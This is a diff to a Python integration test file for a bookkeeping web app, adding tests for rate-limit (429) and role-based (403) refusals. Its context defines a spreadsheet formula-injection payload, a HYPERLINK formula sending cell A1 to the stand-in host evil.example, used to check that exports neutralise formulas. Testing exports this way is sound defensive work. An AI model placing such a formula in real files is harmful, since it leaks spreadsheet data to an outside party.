@@ -8,17 +8,23 @@ from __future__ import annotations
 import csv
 import io
 import zipfile
+from collections.abc import Iterator
 from typing import Any
 
+import pytest
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
 
+from commands.api import create_app
+from commands.cli import seed_path
 from commands.handlers import CommandHandler
+from commands.importer import import_file
 from commands.models import parse_command
 from ledger.application import Ledger
 from ledger.roles import Role
+from ledger.settings import Settings
 from tests.integration.test_api import issue
-from tests.integration.test_web import UNIT, sign_in, web  # noqa: F401
+from tests.integration.test_web import LINE, UNIT, sign_in, web  # noqa: F401
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
 
@@ -79,3 +85,55 @@ def test_downloads_carry_no_formula_from_a_project_name(
     assert "'" + EVIL in fields
     assert not [f for f in fields if f[:1] in ("=", "+", "@", "\t", "\r")]
     assert not [f for f in fields if f.startswith("-") and not f[1:].replace(".", "").isdigit()]
+
+
+@pytest.fixture
+def throttled(ledger: Ledger, database_url: str) -> Iterator[TestClient]:
+    """The 工作台 with two expensive queries per token, then one every 100 minutes."""
+    assert import_file(CommandHandler(ledger), seed_path()).ok
+    settings = Settings(
+        database_url=database_url, auditor_query_burst=2, auditor_queries_per_minute=0.01
+    )
+    with TestClient(create_app(settings, ledger=ledger), follow_redirects=False) as client:
+        yield client
+
+
+def refused_as_the_api_refuses(response: Any) -> None:
+    assert response.status_code == 429, response.text
+    assert int(response.headers["Retry-After"]) >= 1
+    assert 'data-code="rate_limited"' in response.text
+
+
+def test_a_rate_limit_refusal_is_429_with_retry_after(
+    throttled: TestClient, ledger: Ledger
+) -> None:
+    sign_in(throttled, issue(ledger, "审计-张", Role.AUDITOR))
+    for _ in range(2):
+        assert throttled.get(f"/u/{UNIT}/trail?line={LINE}").status_code == 200
+    refused_as_the_api_refuses(throttled.get(f"/u/{UNIT}/trail?line={LINE}"))
+
+
+def test_a_forbidden_posting_is_403_as_from_the_api(web: TestClient, ledger: Ledger) -> None:  # noqa: F811
+    closer = TestClient(web.app, follow_redirects=False)
+    closer_csrf = sign_in(closer, issue(ledger, "结账员-赵", Role.CLOSER, units=[UNIT]))
+    assert closer.post(f"/u/{UNIT}/2022/close", data={"csrf": closer_csrf}).status_code == 200
+    # A clerk sends the closer's field by hand: the books refuse the role (403), as the
+    # API does, and post nothing.
+    csrf = sign_in(web, issue(ledger, "会计-李娜", Role.CLERK, units=[UNIT]))
+    before = ledger.position()
+    refused = web.post(
+        f"/u/{UNIT}/2022/post/reverse",
+        data={
+            "csrf": csrf,
+            "command_id": "web-clerk-fix",
+            "line": LINE,
+            "reverses_command_id": "seed-2022-0337",
+            "reason": "错账",
+            "document_no": "记-2023-01-0001",
+            "business_date": "2022-12-31",
+            "adjustment_reason": "审计调整",
+            "step": "post",
+        },
+    )
+    assert refused.status_code == 403, refused.text
+    assert ledger.position() == before
